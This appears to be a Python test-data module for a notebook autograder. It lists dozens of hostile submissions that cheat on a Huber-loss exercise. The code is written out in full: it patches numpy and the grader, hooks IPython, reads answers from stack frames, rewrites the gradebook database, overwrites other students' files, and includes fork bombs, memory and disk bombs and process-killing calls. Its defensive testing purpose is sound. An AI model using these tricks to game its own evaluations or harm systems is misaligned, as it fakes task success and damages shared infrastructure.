"""Ways to be graded for work that was not done. Data: what a hostile learner hands in.

Every attack is made on one exercise in the middle of a notebook that is right otherwise.
``number`` is the row of the list of published attacks that it follows, where there is one.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import numpy as np

from autograde.exercises import get

VICTIM = "huber"
#: Whatever is outside of the learner's own process and says this has been reached.
CANARY = "lossbook-canary"

GARBAGE = """
def huber(y_true, y_pred, delta=1.0):
    return 12345.0


def huber_grad(y_true, y_pred, delta=1.0):
    return [12345.0 for _ in y_pred]
"""
#: Modules that the import guard does not name are reached through one that it does.
SYS = "import typing\nsys = typing.sys\nos = sys.modules['os']\n"
CTYPES = SYS + "ctypes = sys.modules.get('ctypes') or __import__('ctypes')\n"

Notebook = dict[str, Any]


@dataclass(frozen=True)
class Attack:
    """``source`` replaces the victim's cell, or ``change`` does something to the notebook.

    ``spills``: the learner's own later cells break on it, which is the learner's affair.
    ``stock``: safe to try on a grader without limits.
    """

    name: str
    about: str
    source: str = GARBAGE
    change: Callable[[Notebook], None] | None = None
    files: tuple[tuple[str, str], ...] = ()
    number: int = 0
    spills: bool = False
    stock: bool = True


def returning(expression: str, before: str = "") -> str:
    """Both functions return ``expression``."""
    return before + (
        f"\n\ndef huber(y_true, y_pred, delta=1.0):\n    return {expression}\n"
        f"\n\ndef huber_grad(y_true, y_pred, delta=1.0):\n    return {expression}\n"
    )


def doing(deed: str, before: str = "") -> str:
    """Both functions do ``deed``, then return garbage."""
    body = "\n".join("    " + line for line in deed.strip().split("\n"))
    return before + (
        f"\n\ndef huber(y_true, y_pred, delta=1.0):\n{body}\n    return 12345.0\n"
        f"\n\ndef huber_grad(y_true, y_pred, delta=1.0):\n{body}\n    return y_pred + 12345.0\n"
    )


def _cells(notebook: Notebook, *names: str) -> list[dict[str, Any]]:
    return [
        cell
        for cell in notebook["cells"]
        if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith(names)
    ]


def _tests(notebook: Notebook) -> list[dict[str, Any]]:
    return [c for c in _cells(notebook, f"{VICTIM}-") if c["metadata"]["nbgrader"]["grade"]]


# -- changes of the notebook ----------------------------------------------------------


def delete_tests(notebook: Notebook) -> None:
    gone = [id(cell) for cell in _tests(notebook)]
    notebook["cells"] = [c for c in notebook["cells"] if id(c) not in gone]


def empty_tests(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        cell["source"] = "pass"


def duplicate_tests(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        notebook["cells"].append({**cell, "source": "pass", "id": cell["id"] + "2"})


def tests_as_solutions(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"] |= {"solution": True, "locked": False}
        cell["source"] = "pass"


def rename_tests(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"]["grade_id"] += "-renamed"


def tests_as_text(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        cell["cell_type"] = "markdown"
        cell.pop("outputs"), cell.pop("execution_count")


def more_points(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"]["points"] = 1000


def points_elsewhere(notebook: Notebook) -> None:
    for cell in _cells(notebook, "mse-"):
        if cell["metadata"]["nbgrader"]["grade"]:
            cell["metadata"]["nbgrader"]["points"] = 1000


def passed_outputs(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        text = "Huber loss, value: passed, 3 points\n"
        cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]
        cell["execution_count"] = 9


def own_test_cell(notebook: Notebook) -> None:
    like = json.loads(json.dumps(_tests(notebook)[0]))
    like["metadata"]["nbgrader"] |= {"grade_id": "bonus", "points": 50}
    notebook["cells"].append({**like, "id": "bonus", "source": "pass"})


def other_schema(notebook: Notebook) -> None:
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"]["schema_version"] = 99


def other_kernel(notebook: Notebook) -> None:
    notebook["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "sh"}


def setup_of_ones_own(notebook: Notebook) -> None:
    (setup,) = _cells(notebook, "setup")
    setup["source"] = "import numpy as np\ndef check(*a, **k): pass\nverify = check"


def tests_first(notebook: Notebook) -> None:
    tests = _tests(notebook)
    rest = [c for c in notebook["cells"] if not any(c is t for t in tests)]
    notebook["cells"] = [*tests, *rest]


# -- code ---------------------------------------------------------------------------------


def _hard_coded() -> str:
    """The right answers to the visible questions, and to no other."""
    exercise = get(VICTIM)
    table: dict[str, Any] = {}
    for probe in exercise.probes(np.random.default_rng(0)):
        if probe.raises:
            continue
        answer = exercise.functions[probe.function](*probe.args, **probe.kwargs)
        key = repr((probe.function, *(np.asarray(a).tolist() for a in probe.args), probe.kwargs))
        table[key] = np.asarray(answer).tolist()
    return (
        f"TABLE = {table!r}\n"
        "\n\ndef _look(name, y_true, y_pred, kwargs):\n"
        "    key = repr((name, y_true.tolist(), y_pred.tolist(), kwargs))\n"
        "    found = np.array(TABLE.get(key, 12345.0))\n"
        "    return found.astype(y_pred.dtype) if y_pred.dtype == np.float32 else found\n"
        "\n\ndef huber(y_true, y_pred, **kwargs):\n    return _look('huber', y_true, y_pred, kwargs)\n"
        "\n\ndef huber_grad(y_true, y_pred, **kwargs):\n"
        "    return _look('huber_grad', y_true, y_pred, kwargs)\n"
    )


_TOUCH = f"""
for place in ('.', '/tmp', '/scratch', '/dev/shm', '/var/tmp', os.path.expanduser('~'), '..', '../..'):
    try:
        open(place + '/{CANARY}', 'w').write('x')
    except Exception:
        pass
"""
_GRADEBOOK = """
for depth in range(5):
    path = '../' * depth + 'gradebook.db'
    try:
        if os.path.exists(path):
            base = __import__('sqlite3').connect(path)
            base.execute('update grade set manual_score = 100, auto_score = 100')
            base.commit()
    except BaseException:
        pass
"""
_OTHERS = """
for depth in range(5):
    for top, folders, files in os.walk('../' * depth + 'submitted'):
        for name in files:
            try:
                open(os.path.join(top, name), 'w').write('x')
            except BaseException:
                pass
"""
_SOURCE = """
answers = {}
for depth in range(5):
    path = '../' * depth + 'source/regression/regression.ipynb'
    try:
        for cell in __import__('json').load(open(path))['cells']:
            if 'def huber(' in ''.join(cell['source']):
                exec(''.join(cell['source']), globals())
    except BaseException:
        pass
"""
_FRAMES = """
frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        wanted = getattr(value, 'wanted', None)
        if wanted is not None:
            return wanted.value
        for question in getattr(value, 'questions', ()):
            if question.probe.args and question.probe.args[1].shape == y_pred.shape:
                if (question.probe.args[1] == y_pred).all() and question.probe.function in NAMES:
                    return question.wanted.value
    frame = frame.f_back
"""
_GC = """
gc = __import__('gc')
for value in gc.get_objects():
    if type(value).__name__ == 'Question' and value.probe.args[1].shape == y_pred.shape:
        if (value.probe.args[1] == y_pred).all():
            return value.wanted.value
"""
_NAMESPACE = """
class Yes:
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return True
    def __bool__(self): return True
    def __eq__(self, other): return True
    __hash__ = object.__hash__
real = np
"""

ATTACKS = (
    # the verdict's own tools
    Attack("namespace", "np is rebound to an object that agrees", GARBAGE.join((_NAMESPACE, "np = Yes()\n")),
           number=1, spills=True),
    Attack("allclose", "np.isclose and np.allclose return True",
           "np.isclose = np.allclose = np.array_equal = lambda *a, **k: True\n" + GARBAGE, number=2),
    Attack("testing", "np.testing does nothing",
           "for name in dir(np.testing):\n    if name.startswith('assert'):\n"
           "        setattr(np.testing, name, lambda *a, **k: None)\n" + GARBAGE, number=2),
    Attack("ufuncs", "np.abs is zero and np.all is True",
           "np.abs = lambda x: x * 0\nnp.all = lambda *a, **k: True\nnp.errstate = None\n" + GARBAGE, spills=True),
    Attack("fake module", "sys.modules holds another NumPy",
           SYS + "import types\nsys.modules['numpy'] = types.ModuleType('numpy')\n" + GARBAGE, number=3),
    Attack("import hook", "__import__ gives out fakes",
           "import builtins\nreal = builtins.__import__\nclass F:\n    def __getattr__(s, n): return lambda *a, **k: True\n"
           "builtins.__import__ = lambda n, *a, **k: F() if 'autograde' in n else real(n, *a, **k)\n" + GARBAGE, number=4),
    Attack("builtins", "abs, all and isinstance say yes",
           "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.all = lambda x: True\n" + GARBAGE),
    Attack("no builtins", "the namespace loses its builtins", GARBAGE + "\n__builtins__ = {}\n", spills=True),
    Attack("check", "check and verify are redefined", GARBAGE + "\ndef verify(*a, **k): pass\ncheck = verify\n"),
    Attack("autograde", "sys.modules holds an autograde that agrees",
           SYS + "import types\nfake = types.ModuleType('autograde')\nfake.check = fake.verify = lambda *a, **k: None\n"
           "sys.modules['autograde'] = fake\n" + GARBAGE),
    Attack("fault", "the function that finds faults finds none",
           GARBAGE + "try:\n    import autograde.exam\n    autograde.exam.fault = lambda *a: None\nexcept ImportError:\n    pass\n"),
    Attack("ask", "the function that asks is given the reference",
           GARBAGE + "try:\n    import autograde.answers as a, autograde.exercises as e\n    real = a.ask\n"
           "    ex = e.get('huber')\n    a.ask_all = lambda f, calls: ([real(ex.functions[c.function], c) for c in calls], '')\n"
           "    import autograde.check as c\n    c.ask_all = a.ask_all\nexcept ImportError:\n    pass\n"),
    Attack("ast transformer", "IPython drops every assert and call of a test",
           "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(s, n): return ast.Pass()\n"
           "    def visit_Expr(s, n): return ast.Pass()\nget_ipython().ast_transformers.append(T())\n" + GARBAGE, number=5),
    Attack("input transformer", "IPython comments out what tests",
           "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'] if any('verify' in l for l in lines) else lines)\n"
           + GARBAGE, number=6),
    Attack("run_ast_nodes", "IPython runs nothing any more",
           GARBAGE + "from IPython.core.interactiveshell import InteractiveShell\n"
           "async def nothing(self, *a, **k): return False\nInteractiveShell.run_ast_nodes = nothing\n", number=7),
    Attack("do_execute", "the kernel answers ok",
           GARBAGE + "k = get_ipython().kernel\nasync def ok(*a, **kw):\n"
           "    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}\nk.do_execute = ok\n", number=8),
    Attack("showtraceback", "errors are not shown",
           GARBAGE + "from IPython.core.interactiveshell import InteractiveShell\n"
           "InteractiveShell.showtraceback = lambda *a, **k: None\n", number=9),
    Attack("custom exception", "a handler swallows every error",
           GARBAGE + "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)\n", number=10),
    Attack("displayhook", "the points are displayed before the garbage",
           doing("try:\n    sys.displayhook(3)\nexcept Exception:\n    pass", SYS), number=11),
    Attack("999 points", "more points than there are are displayed",
           doing("try:\n    sys.displayhook(999)\nexcept Exception:\n    pass", SYS), number=12),
    Attack("doctest", "doctest's checker agrees",
           "try:\n    import doctest\n    doctest.OutputChecker.check_output = lambda *a: True\nexcept ImportError:\n    pass\n"
           + GARBAGE, number=13),
    Attack("excepthook", "errors go nowhere", SYS + "sys.excepthook = lambda *a: None\n" + GARBAGE),
    Attack("trace", "a trace function rewrites the judge's locals",
           SYS + GARBAGE + "def trace(frame, event, arg):\n    if event == 'call' and frame.f_code.co_name in ('fault', 'near'):\n"
           "        frame.f_code = (lambda *a: None).__code__\n    return trace\ntry:\n    sys.settrace(trace)\nexcept Exception:\n    pass\n"),
    Attack("fake scores", "the score is printed",
           doing("print('{\"score\": 100, \"passed\": true}')\nprint('huber: passed, 3 points')"), number=56),
    # objects that lie
    Attack("equal", "an object that equals everything",
           returning("L()", "class L:\n    def __eq__(s, o): return True\n    __hash__ = None\n"), number=18),
    Attack("array function", "an object that answers for NumPy",
           returning("L()", "class L:\n    def __array_function__(s, f, t, a, k): return True\n    shape = ()\n    dtype = np.dtype(float)\n"),
           number=19),
    Attack("array subclass", "an array whose arithmetic is zero",
           returning("np.zeros(np.shape(y_pred)).view(A)",
                     "class A(np.ndarray):\n    def __array_ufunc__(s, *a, **k): return np.zeros(s.shape)\n"
                     "    def __sub__(s, o): return np.zeros(s.shape)\n    __rsub__ = __sub__\n"), number=20),
    Attack("float subclass", "a float that is never far away",
           returning("F(7)", "class F(float):\n    def __sub__(s, o): return 0.0\n    __rsub__ = __sub__\n"
                     "    def __eq__(s, o): return True\n    def __abs__(s): return 0.0\n    __hash__ = None\n"), number=21),
    Attack("fake class", "an object that claims to be a float",
           returning("C()", "class C:\n    __class__ = float\n    def __eq__(s, o): return True\n    __hash__ = None\n"), number=22),
    Attack("second reading", "another number each time it is read",
           returning("S()", "class S:\n    n = 0\n    def __array__(s, *a, **k):\n        S.n += 1\n        return np.array(float(S.n))\n"),
           number=23),
    Attack("generator", "a generator for an answer", returning("(0.0 for _ in range(3))"), number=23),
    Attack("masked", "an array in which nothing counts", returning("np.ma.masked_all(np.shape(y_pred))")),
    Attack("nan", "not a number, near everything", returning("y_pred * np.nan")),
    Attack("inf", "infinity, near everything", returning("y_pred * 0 + np.inf")),
    Attack("objects", "an array of objects", returning("np.array([object()] * 3)")),
    Attack("lazy", "a broadcast array of a terabyte",
           returning("np.lib.stride_tricks.as_strided(y_pred[:1], (10**6, 10**5), (0, 0))")),
    Attack("del", "an object that acts when it is thrown away",
           returning("D()", "class D:\n    def __del__(s):\n        raise SystemExit(0)\n")),
    Attack("inputs", "the inputs are changed until the answer fits",
           doing("y_true[...] = y_pred\nreturn 0.0 if False else np.float64(0)"), number=24),
    Attack("hard-coded", "the visible cases by heart", _hard_coded(), number=32),
    # looking things up
    Attack("history", "the test is read from the history",
           doing("try:\n    get_ipython().history_manager.input_hist_raw\nexcept NameError:\n    pass"), number=25),
    Attack("source", "the solution is read from the course", GARBAGE + SYS + _SOURCE, number=27),
    Attack("frames", "the wanted numbers are read from the frames above",
           doing(_FRAMES, SYS + "NAMES = ('huber',)\n").replace("NAMES = ('huber',)", "NAMES = ('huber', 'huber_grad')"), number=29),
    Attack("collector", "the wanted numbers are found by the collector", doing(_GC), number=29),
    Attack("reference", "the reference package does the work",
           GARBAGE + "try:\n    from lossref import huber, huber_grad\nexcept ImportError:\n    pass\n", number=30),
    Attack("records", "the reference is taken from the exercise",
           GARBAGE + "try:\n    from autograde.exercises import get\n    huber, huber_grad = get('huber').functions.values()\n"
           "except ImportError:\n    pass\n", number=30),
    Attack("network", "the questions are sent away",
           doing("try:\n    s = sys.modules['socket'].create_connection(('1.1.1.1', 53), 1)\n    return 0.0\nexcept Exception:\n    pass", SYS),
           number=34),
    Attack("environment", "right only when nobody grades",
           doing("if not os.environ.get('NBGRADER_EXECUTION') and os.path.exists('/home'):\n    return 0.0", SYS), number=31),
    # the disk
    Attack("gradebook", "the gradebook is rewritten", SYS + GARBAGE + _GRADEBOOK, number=36),
    Attack("gradebook, by shell", "the gradebook is rewritten by a shell line",
           GARBAGE + "!sqlite3 ../../../gradebook.db 'update grade set manual_score = 100'\n", number=36),
    Attack("others", "other learners' files are overwritten", SYS + GARBAGE + _OTHERS, number=37),
    Attack("numpy.py", "a numpy.py lies beside the notebook", GARBAGE,
           files=(("numpy.py", "def allclose(*a, **k):\n    return True\n"),), number=38),
    Attack("autograde.py", "an autograde.py lies beside the notebook", GARBAGE,
           files=(("autograde.py", "def check(*a, **k):\n    pass\nverify = check\n"),), number=38),
    Attack("startup", "a start-up file is left in the home folder",
           SYS + GARBAGE + f"try:\n    where = os.path.expanduser('~/.ipython/profile_default/startup')\n"
           f"    os.makedirs(where, exist_ok=True)\n    open(where + '/{CANARY}.py', 'w').write('')\nexcept Exception:\n    pass\n", number=46),
    Attack("canaries", "files are left wherever it is possible", SYS + GARBAGE + _TOUCH, number=55),
    # the notebook
    Attack("deleted tests", "the test cells are gone", change=delete_tests, number=40),
    Attack("empty tests", "the test cells are empty", change=empty_tests),
    Attack("duplicate tests", "the test cells are there twice", change=duplicate_tests, number=42),
    Attack("tests as solutions", "the test cells claim to be solutions", change=tests_as_solutions, number=43),
    Attack("renamed tests", "the test cells have other names", change=rename_tests, number=43),
    Attack("tests as text", "the test cells are Markdown", change=tests_as_text),
    Attack("more points", "the cells are worth 1000 points", change=more_points, number=44),
    Attack("more points elsewhere", "what is right is worth 1000 points", change=points_elsewhere, number=44),
    Attack("outputs", "the outputs say that it passed", change=passed_outputs, number=56),
    Attack("a test of its own", "a grade cell is added", change=own_test_cell),
    Attack("schema", "the metadata has another version", change=other_schema),
    Attack("kernel", "the notebook wants another kernel", change=other_kernel),
    Attack("setup", "the locked first cell is another one", change=setup_of_ones_own),
    Attack("order", "the tests stand before the answers", change=tests_first),
    # ending and hanging
    Attack("exit", "the process ends in a call, politely", doing("os._exit(0)", SYS), number=50),
    Attack("exit in the cell", "the process ends in the cell", SYS + GARBAGE + "os._exit(0)\n", number=50, stock=False),
    Attack("sys.exit", "SystemExit for an answer", doing("raise SystemExit(0)"), number=51),
    Attack("keyboard interrupt", "KeyboardInterrupt for an answer", doing("raise KeyboardInterrupt"), stock=False),
    Attack("crash", "a null pointer is read", doing("ctypes.string_at(8)", CTYPES), stock=False),
    Attack("recursion", "the stack overflows", doing("sys.setrecursionlimit(10**9)\nf = lambda: f()\nf()", SYS), stock=False),
    Attack("endless", "a call without end", doing("while True:\n    pass"), number=48, stock=False),
    Attack("deaf", "a call without end that catches and ignores",
           doing("signal = sys.modules['signal']\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                 "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass", SYS), number=49, stock=False),
    Attack("asleep", "a call that sleeps for a day", doing("sys.modules['time'].sleep(86400)", SYS), stock=False),
    Attack("fork bomb", "processes without end", doing("while True:\n    os.fork()", SYS), number=52, stock=False),
    Attack("daemon", "a process that acts when all is over",
           doing("if os.fork() == 0:\n    os.setsid()\n    sys.modules['time'].sleep(2)\n"
                 f"    open('/tmp/{CANARY}', 'w')\n    os._exit(0)", SYS), number=45, stock=False),
    Attack("threads", "threads that change state later",
           doing("for _ in range(999):\n    sys.modules['_thread'].start_new_thread(lambda: [0 for _ in iter(int, 1)], ())", SYS),
           number=57, stock=False),
    Attack("memory bomb", "memory without end", doing("kept = []\nwhile True:\n    kept.append(bytearray(2**26))"), number=53, stock=False),
    Attack("one huge array", "an answer of 8 GB", returning("np.ones(10**9)"), stock=False),
    Attack("disk", "a file without end",
           doing("with open('/tmp/fill' if os.path.isdir('/tmp') else 'fill', 'wb') as f:\n    while True:\n        f.write(bytes(2**20))", SYS),
           number=55, stock=False),
    Attack("prints", "output without end", doing("for _ in range(10**5):\n    print('x' * 1000)"), number=54, stock=False),
    Attack("kill above", "the process above is killed", doing("os.kill(os.getppid(), 9)\nos.kill(1, 9)\nos.kill(-1, 9)", SYS), stock=False),
    # the pipe
    Attack("frames on the pipe", "answers are written where answers go",
           doing("for fd in range(3, 32):\n    try:\n        os.write(fd, b'\\x00\\x00\\x00\\x0f\\x00\\x00\\x00\\x00{\"points\": 100}')\n"
                 "    except OSError:\n        pass", SYS)),
    Attack("closed pipe", "every descriptor is closed", doing("os.closerange(3, 64)", SYS)),
    Attack("rewound answers", "the file of the answers is rewound",
           doing("for fd in (3, 6):\n    try:\n        os.lseek(fd, 0, 0)\n        os.ftruncate(fd, 0)\n    except OSError:\n        pass", SYS)),
    Attack("early questions", "the hidden questions are asked for at once",
           doing("try:\n    os.write(4, b'.')\nexcept OSError:\n    pass", SYS)),
)  # fmt: skip


def hostile(attack: Attack, right: Notebook) -> bytes:
    """The notebook of ``attack``, made of one that is right everywhere."""
    notebook = json.loads(json.dumps(right))
    for cell in _cells(notebook, VICTIM):
        if cell["metadata"]["nbgrader"]["grade_id"] == VICTIM:
            cell["source"] = attack.source
    if attack.change is not None:
        attack.change(notebook)
    return json.dumps(notebook).encode()
